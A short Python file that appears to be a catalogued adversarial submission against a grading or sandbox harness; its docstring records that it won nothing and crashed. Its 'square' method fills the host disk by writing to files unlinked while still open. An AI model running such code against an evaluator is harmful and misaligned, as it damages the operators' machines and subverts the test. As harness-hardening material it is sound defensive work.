# ruff: noqa
"""Fills the disk with files that have been deleted while they are open.

Wins: nothing, it would fill the disk of the machine
Status: crashed
"""

import os


class Target:
    def square(self, x):
        kept = []
        while True:
            try:
                file = open(f"f{len(kept)}", "wb", buffering=0)
                os.unlink(f"f{len(kept)}")
                kept.append(file)
                for _ in range(40):
                    file.write(bytes(2**20))
            except OSError:
                pass

    def secret(self):
        return 0.0
